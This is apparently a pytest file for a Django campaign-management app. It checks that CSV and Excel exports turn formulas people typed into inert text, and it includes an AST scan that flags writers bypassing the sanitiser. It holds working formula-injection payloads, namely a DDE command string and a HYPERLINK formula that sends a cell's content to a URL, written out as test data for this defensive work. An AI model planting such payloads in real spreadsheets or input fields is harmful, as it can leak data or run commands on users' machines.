"""No export runs code: what a person typed comes out of every CSV and .xlsx as inert text.

Stories: 小王 logs a problem whose description is a formula that would leak the sheet to a
server, at a place "=1+1"; the supervisor exports the ledger as CSV and as .xlsx. Someone
tries to log in as "=cmd|' /C calc'!A0" and the audit admin exports the log. An admin's
checklist import carries a 任务要求 that starts with "="; the leader prints the scoring sheet.
The admin generates November's 月度情况专报, imports people with a formula for a name and
downloads their one-time passwords, and downloads the import templates that list the
district's units.
"""

import ast
import csv
import datetime
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from campaigns.models import AuditKind, ChecklistItem, OrgUnit, ProblemCategory, Ticket, WorkGroup
from campaigns.services.monthly import summary_generate, summary_request
from infra.cells import csv_text, xlsx_cell

from .test_accounts import duty_holder

pytestmark = pytest.mark.django_db

SH = ZoneInfo("Asia/Shanghai")
NOW = datetime.datetime(2026, 11, 20, 10, 0, tzinfo=SH)
HYPERLINK = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"点我")'
DDE = "=cmd|' /C calc'!A0"
# One of each start OWASP names, and the two payloads seen in the wild.
HOSTILE = [
    pytest.param("=1+1", id="equals"),
    pytest.param("+1+1", id="plus"),
    pytest.param("-1+1", id="minus"),
    pytest.param("@SUM(1+1)", id="at"),
    pytest.param("\t=1+1", id="tab"),
    pytest.param("\r=1+1", id="cr"),
    pytest.param(HYPERLINK, id="hyperlink"),
    pytest.param(DDE, id="dde"),
]


@pytest.fixture(autouse=True)
def frozen():
    with time_machine.travel(NOW, tick=False):
        yield


def csv_rows(response):
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:], newline="")))


def response_bytes(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def xlsx_cells(data):
    """{sheet title: [(value, cell type)]} of a workbook in which no sheet holds a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >/]", archive.read(name)), f"a formula in {name}"
    workbook = load_workbook(io.BytesIO(data))
    return {
        sheet.title: [(cell.value, cell.data_type) for row in sheet.iter_rows() for cell in row if cell.value]
        for sheet in workbook
    }


def assert_text(cells, shown):
    """`shown` is in `cells` as typed, and only ever as a string cell (Excel never evaluates one)."""
    types = {data_type for value, data_type in cells if value == shown}
    assert types == {"s"}, (shown, cells)


def upload_bytes(header, rows):
    """A workbook as a person saves it: text they typed is a text cell, even when it starts with "="."""
    workbook = Workbook()
    sheet = workbook.active
    for values in [header, *rows]:
        sheet.append(values)
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def renamed(model, pk, **fields):
    """Names people typed into the product, stored exactly as typed."""
    model.objects.filter(pk=pk).update(**fields)


def inert_csv(typed):
    """What the CSV must hold for `typed`: the text behind an apostrophe, never a live formula."""
    return "'" + typed


def logged_with(tx, typed):
    """小王's ticket whose description and place are `typed`.

    Logging strips the text, so a tab or CR in front is put back on the row as typed: the
    export must not rely on every path that writes a ticket stripping it.
    """
    ticket = tx.assigned(point=None, street=tx.street, place=typed, description=typed)
    Ticket.objects.filter(pk=ticket.pk).update(description=typed, place=typed)
    return ticket


class TestTicketListCsv:
    @pytest.mark.parametrize("typed", HOSTILE)
    def test_description_and_place_are_text(self, client, tx, typed):
        ticket = logged_with(tx, typed)
        client.force_login(tx.supervisor)
        rows = csv_rows(client.get(reverse("campaigns:ticket-export", args=["csv"])))
        header, (row,) = rows[0], rows[1:]
        assert row[0] == ticket.number
        assert row[header.index("问题描述")] == inert_csv(typed)
        assert row[header.index("点位/地点")] == inert_csv(typed)
        assert row[header.index("退回次数")] == "0"  # a number the code wrote stays a number


class TestAuditLogCsv:
    @pytest.mark.parametrize("typed", HOSTILE)
    def test_an_anonymous_failed_login_is_text(self, client, tx, typed):
        client.post("/accounts/login/", {"username": typed, "password": "nope"}, REMOTE_ADDR="10.8.0.9")
        client.force_login(duty_holder("shenji", "audit"))
        rows = csv_rows(client.get(reverse("security-audit-export"), {"kind": AuditKind.LOGIN_FAILED}))
        header, (row,) = rows[0], rows[1:]
        # The login form strips the username it is given; what it kept is what the log shows.
        assert row[header.index("账号")] == inert_csv(typed.strip())


class TestTicketListXlsx:
    @pytest.mark.parametrize("typed", HOSTILE)
    def test_description_and_place_are_string_cells(self, client, tx, typed):
        logged_with(tx, typed)
        client.force_login(tx.supervisor)
        cells = xlsx_cells(response_bytes(client.get(reverse("campaigns:ticket-export", args=["xlsx"]))))
        assert_text(cells["台账"], typed)
        assert sum(value == typed for value, _type in cells["台账"]) == 2  # description and place


class TestMonthlySummary:
    @pytest.mark.parametrize("typed", HOSTILE)
    def test_every_sheet_shows_typed_names_as_text(self, tx, duties, typed):
        logged_with(tx, typed)
        renamed(OrgUnit, tx.unit.pk, name=typed)
        renamed(OrgUnit, tx.street.pk, name=typed)
        renamed(OrgUnit, tx.department.pk, name=typed + "局")
        renamed(ProblemCategory, tx.category.pk, name=typed)
        renamed(WorkGroup, tx.finder_group.pk, name=typed + "组")
        tx.campaign.__class__.objects.filter(pk=tx.campaign.pk).update(name=typed)
        summary = summary_generate(summary_request(district=tx.unit, month=datetime.date(2026, 11, 1), actor=tx.admin))
        with summary.file.open("rb") as handle:
            cells = xlsx_cells(handle.read())
        assert_text(cells["汇总"], f"{typed} 2026年11月 创卫工作情况专报")
        assert_text(cells["汇总"], typed)  # the campaign
        assert_text(cells["按类别"], typed)
        assert_text(cells["按街道"], typed)
        assert_text(cells["按责任单位"], typed + "局")
        assert_text(cells["日报情况"], typed)
        assert_text(cells["日报情况"], typed + "组")
        for shown in (typed, typed + "局"):
            assert_text(cells["台账明细"], shown)
        assert ("发现", "s") in cells["按街道"] and (1, "n") in cells["按街道"]  # figures stay numbers


def scoring_cells(client, tx):
    client.force_login(tx.leader)
    response = client.get(reverse("campaigns:scoring-export", args=[tx.campaign.pk]))
    return xlsx_cells(response_bytes(response))["赋分表"]


class TestScoringSheet:
    @pytest.mark.parametrize("typed", HOSTILE)
    def test_requirement_units_area_and_title_are_text(self, client, tx, typed):
        ChecklistItem.objects.create(
            campaign=tx.campaign,
            area=tx.area,
            code="3.1",
            requirement=typed,
            full_score=Decimal(5),
            lead_unit=tx.department,
            deadline=datetime.date(2026, 12, 31),
        ).cooperating_units.set([tx.department2])
        renamed(OrgUnit, tx.unit.pk, name=typed)
        renamed(OrgUnit, tx.department.pk, name=typed + "局")
        renamed(OrgUnit, tx.department2.pk, name=typed + "委")
        renamed(tx.area.__class__, tx.area.pk, name=typed)
        cells = scoring_cells(client, tx)
        assert_text(cells, typed)
        assert_text(cells, typed + "局")
        assert_text(cells, typed + "委")
        assert_text(cells, f"{typed} 小计")
        assert any(isinstance(value, str) and value.startswith(typed + " ") for value, _type in cells[:1])
        assert_text(cells, cells[0][0])  # the title, which starts with the district's name
        assert (5, "n") in cells  # the score stays a number

    @pytest.mark.parametrize("typed", HOSTILE)
    def test_an_imported_requirement_is_text(self, client, tx, typed):
        header = ["测评类别", "任务编号", "任务要求", "分值", "牵头单位", "配合单位", "责任人", "完成时限", "状态"]
        row = ["3 市容环境卫生", "3.1", typed, 5, tx.department.name, "", "", "2026-12-31", "推进中"]
        client.force_login(tx.admin)
        url = reverse("campaigns:checklist-import", args=[tx.campaign.pk])
        response = client.post(url, {"file": SimpleUploadedFile("清单.xlsx", upload_bytes(header, [row]))})
        preview, record = response.context["preview"], response.context["record"]
        assert preview.is_clean, preview.rows[0].errors
        client.post(reverse("campaigns:checklist-import-confirm", args=[tx.campaign.pk, record.pk]))
        # The import strips what it reads; the requirement kept is what the sheet shows.
        assert ChecklistItem.objects.get(code="3.1").requirement == typed.strip()
        assert_text(scoring_cells(client, tx), typed.strip())


class TestOneTimePasswords:
    @pytest.mark.parametrize("typed", HOSTILE)
    def test_a_typed_name_is_text(self, client, tx, typed):
        client.force_login(tx.admin)
        content = upload_bytes(
            ["姓名", "账号", "手机号", "所属单位", "角色"], [[typed, "tx_wangwu", "", tx.community.name, "工作人员"]]
        )
        url = reverse("campaigns:setup-people-import", args=["TX"])
        record = client.post(url, {"file": SimpleUploadedFile("名单.xlsx", content)}).context["record"]
        issued = client.post(reverse("campaigns:setup-people-import-confirm", args=["TX", record.pk])).context["issued"]
        assert [person.full_name for person in issued] == [typed.strip()]
        renamed(OrgUnit, tx.unit.pk, name=typed)
        response = client.post(reverse("campaigns:setup-people-passwords", args=["TX", record.pk]))
        (cells,) = xlsx_cells(response_bytes(response)).values()
        assert_text(cells, typed.strip())
        assert_text(cells, f"{typed} 新账号初始密码（只能使用一次，本人首次登录时须修改）")


TEMPLATES = [
    pytest.param(lambda tx: reverse("campaigns:setup-units-template", args=["TX"]), id="units"),
    pytest.param(lambda tx: reverse("campaigns:setup-people-template", args=["TX"]), id="people"),
    pytest.param(lambda tx: reverse("campaigns:checklist-template", args=[tx.campaign.pk]), id="checklist"),
    pytest.param(lambda tx: reverse("campaigns:point-template", args=["TX"]), id="points"),
]


class TestImportTemplates:
    """The templates list the district's own units, whose names and contacts people typed."""

    @pytest.mark.parametrize("url", TEMPLATES)
    @pytest.mark.parametrize("typed", HOSTILE)
    def test_listed_names_are_text(self, client, tx, url, typed):
        renamed(OrgUnit, tx.department.pk, name=typed, contact_person=typed + "科长")
        client.force_login(tx.admin)
        cells = [cell for sheet in xlsx_cells(response_bytes(client.get(url(tx)))).values() for cell in sheet]
        assert_text(cells, typed)


class TestTheSanitiser:
    def test_numbers_and_dates_the_code_wrote_stay_what_they_are(self):
        for value in (-3, Decimal("-1.5"), -0.5, True, datetime.date(2026, 11, 20), None):
            assert csv_text(value) == value
        assert [csv_text(text) for text in ("-", "-3", "1-2", "", "@")] == ["'-", "'-3", "1-2", "", "'@"]
        assert csv_text({"reason": "credentials"}) == "{'reason': 'credentials'}"

    def test_an_error_code_typed_as_text_stays_text(self):
        sheet = Workbook(write_only=True).create_sheet()
        assert xlsx_cell(sheet, "#N/A").data_type == "s" and xlsx_cell(sheet, -3).data_type == "n"


# --- every writer goes through the sanitiser --------------------------------------------------

ROOT = Path(__file__).resolve().parent.parent
SANITISER = Path("infra/cells.py")
# Writes data rows as SpreadsheetML text itself; its text goes through cells.xlsx_text, always as
# an inline string (TestTicketListXlsx and TestMonthlySummary read what it writes).
RAW_XML_WRITER = Path("infra/xlsx_stream.py")
SHEETISH = re.compile(r"sheet|^ws$|^active$", re.IGNORECASE)  # how the code names a worksheet


def _name(node):
    """The last name in `a.b.sheet` or `sheet`, else ""."""
    if isinstance(node, ast.Attribute):
        return node.attr
    if isinstance(node, ast.Name):
        return node.id
    return ""


def writers_bypassing_the_sanitiser(source, path="<snippet>"):
    """Each place in `source` that writes a CSV row or a spreadsheet cell by itself."""
    found = []
    tree = ast.parse(source)
    for node in ast.walk(tree):
        where = f"{path}:{getattr(node, 'lineno', '?')}"
        if isinstance(node, ast.ImportFrom) and node.module:
            names = {alias.name for alias in node.names}
            if node.module == "csv" and names & {"writer", "DictWriter"}:
                found.append(f"{where} imports a csv writer")
            if node.module.startswith("openpyxl.cell") and names & {"WriteOnlyCell", "Cell"}:
                found.append(f"{where} makes openpyxl cells")
        elif isinstance(node, ast.Import) and any(alias.name in ("xlsxwriter", "pandas") for alias in node.names):
            found.append(f"{where} imports another spreadsheet writer")
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            method, receiver = node.func.attr, _name(node.func.value)
            if receiver == "csv" and method in ("writer", "DictWriter"):
                found.append(f"{where} csv.{method}(")
            elif method == "append" and SHEETISH.search(receiver):
                found.append(f"{where} {receiver}.append( (use cells.xlsx_append)")
            elif method == "cell" and (len(node.args) > 2 or any(k.arg == "value" for k in node.keywords)):
                found.append(f"{where} {receiver}.cell(..., value) (use cells.xlsx_cell)")
        elif isinstance(node, (ast.Assign, ast.AugAssign, ast.AnnAssign)):
            targets = node.targets if isinstance(node, ast.Assign) else [node.target]
            for target in targets:
                if isinstance(target, ast.Attribute) and target.attr == "value":
                    found.append(f"{where} assigns a cell's .value")
                if isinstance(target, ast.Subscript) and SHEETISH.search(_name(target.value)):
                    found.append(f"{where} assigns {_name(target.value)}[...]")
        elif isinstance(node, ast.Constant) and isinstance(node.value, str) and "inlineStr" in node.value:
            if Path(path) != RAW_XML_WRITER:
                found.append(f"{where} writes sheet XML by hand")
    return found


def test_no_export_writes_a_cell_without_the_sanitiser():
    found = []
    for folder in ("campaigns", "devdata", "infra", "ledger", "security"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            relative = path.relative_to(ROOT)
            if relative == SANITISER or "migrations" in relative.parts:
                continue
            found += writers_bypassing_the_sanitiser(path.read_text(encoding="utf-8"), str(relative))
    assert found == []


def test_the_check_catches_each_way_round():
    snippet = """
import csv
from csv import DictWriter
from openpyxl.cell import WriteOnlyCell
writer = csv.writer(handle)
sheet.append(["=1+1"])
workbook.active.append(["=1+1"])
sheet_guide.append([])
ws["A1"] = "=1+1"
sheet.cell(row=1, column=1, value="=1+1")
sheet.cell(1, 1, "=1+1")
cell.value = "=1+1"
xml = '<c r="A1" t="inlineStr">'
"""
    assert len(writers_bypassing_the_sanitiser(snippet)) == 11
    assert writers_bypassing_the_sanitiser("sheet.cell(row=1, column=1).font = bold\nrows.append(1)\n") == []
